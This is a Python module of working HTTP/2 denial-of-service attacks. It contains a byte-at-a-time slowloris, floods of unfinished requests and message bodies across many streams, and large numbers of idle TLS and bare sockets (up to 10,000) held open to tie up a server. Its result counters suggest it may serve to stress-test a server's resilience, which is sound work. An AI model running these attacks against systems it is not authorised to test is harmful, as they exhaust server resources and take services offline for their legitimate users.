"""Connections and calls that are begun and not gone on with. Each attack ends after its time, or
when the peer has closed all that it opened.
"""

from __future__ import annotations

import socket
import time
from collections.abc import Callable

import h2
from dial import Dial
from h2 import Connection, frame
from result import Result

Open = Callable[[], socket.socket]


def _open_many(open_: Open, count: int, result: Result, hello: bytes) -> list[Connection]:
    connections = []
    for _ in range(count):
        try:
            connections.append(Connection(open_(), hello))
            connections[-1].mute = not hello
        except OSError:
            result.refused += 1
    return connections


def _wait(connections: list[Connection], seconds: float, result: Result) -> Result:
    """Says nothing more."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and any(c.open for c in connections):
        for connection in connections:
            connection.read()
        time.sleep(0.05)
    return result.note(*connections)


def slowloris(dial: Dial, seconds: float, count: int = 100) -> Result:
    """Heads that come a byte at a time."""
    result = Result()
    connections = _open_many(dial.open, count, result, h2.HELLO)
    head = frame(h2.HEADERS, h2.END_HEADERS, 1, h2.call_headers(h2.GET_HEAD))
    for connection in connections:
        connection.read(0.5)  # The settings of the peer, which nothing is said to later on.
        connection.mute = True
    deadline = time.monotonic() + seconds
    for at in range(len(head)):
        for connection in connections:
            connection.send(head[at:at + 1])
        result.sent += 1
        _read_for(connections, 0.25)
        if time.monotonic() > deadline or not any(c.open for c in connections):
            break
    return result.note(*connections)


def _read_for(connections: list[Connection], seconds: float) -> None:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for connection in connections:
            connection.read()
        time.sleep(0.05)


def _begin_calls(dial: Dial, seconds: float, count: int, body: Callable[[int], bytes]) -> Result:
    """As many calls as a connection takes, on so many; `body` is what each says after its head."""
    result = Result()
    connections = _open_many(dial.open, count, result, h2.HELLO)
    for connection in connections:
        for stream in range(1, 200, 2):
            head = frame(h2.HEADERS, h2.END_HEADERS, stream, h2.call_headers(h2.GET_HEAD))
            connection.send(head + body(stream))
            result.sent += 1
    return _wait(connections, seconds, result)


def unfinished_calls(dial: Dial, seconds: float, count: int = 20) -> Result:
    """Calls whose message never comes."""
    return _begin_calls(dial, seconds, count, lambda stream: b"")


def unfinished_messages(dial: Dial, seconds: float, count: int = 20) -> Result:
    """Calls whose message begins and never ends."""
    return _begin_calls(dial, seconds, count, h2.begun_message)


def idle_connections(dial: Dial, seconds: float, count: int = 100) -> Result:
    """Connections that say nothing after the handshake of TLS, where there is one."""
    result = Result()
    return _wait(_open_many(dial.open, count, result, b""), seconds, result)


def idle_sockets(dial: Dial, seconds: float, count: int = 10_000) -> Result:
    """Connections that say nothing at all."""
    result = Result()
    return _wait(_open_many(dial.open_bare, count, result, b""), seconds, result)
